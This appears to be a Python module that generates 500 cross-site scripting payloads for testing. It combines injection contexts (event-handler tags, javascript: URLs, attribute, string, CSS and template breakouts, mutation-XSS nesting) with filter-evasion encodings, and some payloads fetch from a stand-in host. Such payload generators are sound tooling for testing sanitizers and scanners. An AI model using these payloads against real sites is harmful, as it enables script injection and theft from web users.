"""Texts that would act if a page took them for markup: a grammar of contexts and encodings."""

import re
from base64 import b64encode
from collections.abc import Callable, Iterator
from itertools import product

ELSEWHERE = "elsewhere.invalid"
MOST = 500

# What each does that is taken for a script; the number tells which one it was.
DEEDS = (
    "alert({n})",
    "console.log({n})",
    "top[`al`+`ert`]({n})",
    "setTimeout(alert,0,{n})",
    "fetch(`//" + ELSEWHERE + "/{n}`)",
    "document.body.setAttribute(`onclick`,{n})",
)

ENDS = ("", '">', "'>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", "</dd>")
TAGS = (
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<body onpageshow={js}>",
    "<details open ontoggle={js}><summary>x</summary></details>",
    "<input autofocus onfocus={js}>",
    "<video><source onerror={js}></video>",
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    "<object data=javascript:{js}></object>",
    "<link rel=stylesheet href=//{elsewhere}/{n}>",
    "<base href=//{elsewhere}/{n}>",
    "<form action=//{elsewhere}/{n}><button>x</button></form>",
    "<own-element onpointerenter={js} style=position:fixed;inset:0>x</own-element>",
    "<img src=//{elsewhere}/{n}>",
)
ATTRIBUTES = (
    '" autofocus onfocus={js} x="',
    "' autofocus onfocus={js} x='",
    "x onmouseover={js} y",
    '"onclick={js} x="',
    '" style="background:url(//{elsewhere}/{n})" x="',
    '"/onfocus={js}/autofocus/x="',
)
ADDRESSES = (
    "javascript:{js}",
    "java\tscript:{js}",
    "\u0001javascript:{js}",
    "javascript&colon;{js}",
    "vbscript:{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,{coded}",
    "//{elsewhere}/{n}",
    "\\\\{elsewhere}\\{n}",
    '<a href="javascript:{js}">x</a>',
    "[x](javascript:{js})",
)
STRINGS = (
    '";{js};//',
    "';{js};//",
    "\\';{js};//",
    '"-{js}-"',
    "${{{js}}}",
    "`;{js};`",
    "*/{js};/*",
    "\u2028{js}\u2029x",
    "</script><script>{js}</script>",
)
STYLES = (
    "}}*{{background:url(//{elsewhere}/{n})}}",
    "x:expression({js})",
    "@import '//{elsewhere}/{n}';",
    "<style>*{{background:url(//{elsewhere}/{n})}}</style>",
    "</style><script>{js}</script>",
)
MARKERS = (
    "{{{{ '<script>{js}</script>'|safe }}}}",
    "{{% autoescape false %}}<script>{js}</script>{{% endautoescape %}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "<%= '<script>{js}</script>' %>",
    "#{{{js}}}",
    "%(value)s<script>{js}</script>",
    "{{0}}<img src=x onerror={js}>",
)
FOREIGN = ("svg", "math", "math><mtext", "svg><foreignObject", "select", "table")
RAW = ("style", "title", "textarea", "xmp", "noscript", "noembed")
MUTATING = tuple(
    f'<{outer}><{raw}><a title="</{raw}><img src=x onerror={{js}}>">'
    for outer, raw in product(FOREIGN, RAW)
)
CONTEXTS = (
    *(end + tag for end, tag in product(ENDS, TAGS)),
    *ATTRIBUTES,
    *ADDRESSES,
    *STRINGS,
    *STYLES,
    *MARKERS,
    *MUTATING,
)


def _references(text: str) -> str:
    return re.sub(r"[<>\"'&]", lambda found: f"&#{ord(found[0])};", text)


def _bare_references(text: str) -> str:
    return re.sub(r"[<>\"']", lambda found: f"&#x{ord(found[0]):07x}", text)


def _percents(text: str) -> str:
    return re.sub(r"[<>\"' ]", lambda found: f"%{ord(found[0]):02X}", text)


def _escapes(text: str) -> str:
    return re.sub(r"[<>\"']", lambda found: f"\\u{ord(found[0]):04x}", text)


def _seven_bits(text: str) -> str:
    return text.replace("<", "+ADw-").replace(">", "+AD4-")


def _wide(text: str) -> str:
    return re.sub(r"[<>\"'/]", lambda found: chr(ord(found[0]) + 0xFEE0), text)


def _look_alikes(text: str) -> str:
    return text.replace("script", "\u017fcript").replace("img", "\u0131mg").replace("<", "\u2039<")


def _swapped_case(text: str) -> str:
    return re.sub(r"(?<=[</])([a-z]+)", lambda found: found[0].swapcase().capitalize(), text)


def _slashes(text: str) -> str:
    return re.sub(r"(<[a-z]+) ", r"\1/x/", text)


def _tabs(text: str) -> str:
    return re.sub(r"(<[a-z]+) ", "\\1\t\f", text)


def _nested(text: str) -> str:
    return text.replace("<script>", "<scr<script>ipt>").replace("onerror", "ononerrorerror")


def _half_open(text: str) -> str:
    return text.removesuffix(">") + " <x"


ENCODINGS: tuple[Callable[[str], str], ...] = (
    str,
    _references,
    _swapped_case,
    _bare_references,
    _slashes,
    _percents,
    _tabs,
    _escapes,
    _half_open,
    _wide,
    _nested,
    _look_alikes,
    _seven_bits,
)


def _written() -> Iterator[str]:
    """Write each context plainly, and then again and again in one encoding after another."""
    for turn in range(len(ENCODINGS)):
        for number, context in enumerate(CONTEXTS):
            encoding = ENCODINGS[(turn and 1 + (turn + number) % (len(ENCODINGS) - 1))]
            deed = DEEDS[(number + turn) % len(DEEDS)]
            yield encoding(_filled(context, deed, 1_000 * turn + number))


def _filled(context: str, deed: str, number: int) -> str:
    js = deed.format(n=number)
    coded = b64encode(f"<script>{js}</script>".encode()).decode()
    return context.format(js=js, n=number, elsewhere=ELSEWHERE, coded=coded)


def payloads() -> tuple[str, ...]:
    """Return 500 of them, no two the same."""
    return tuple(dict.fromkeys(_written()))[:MOST]
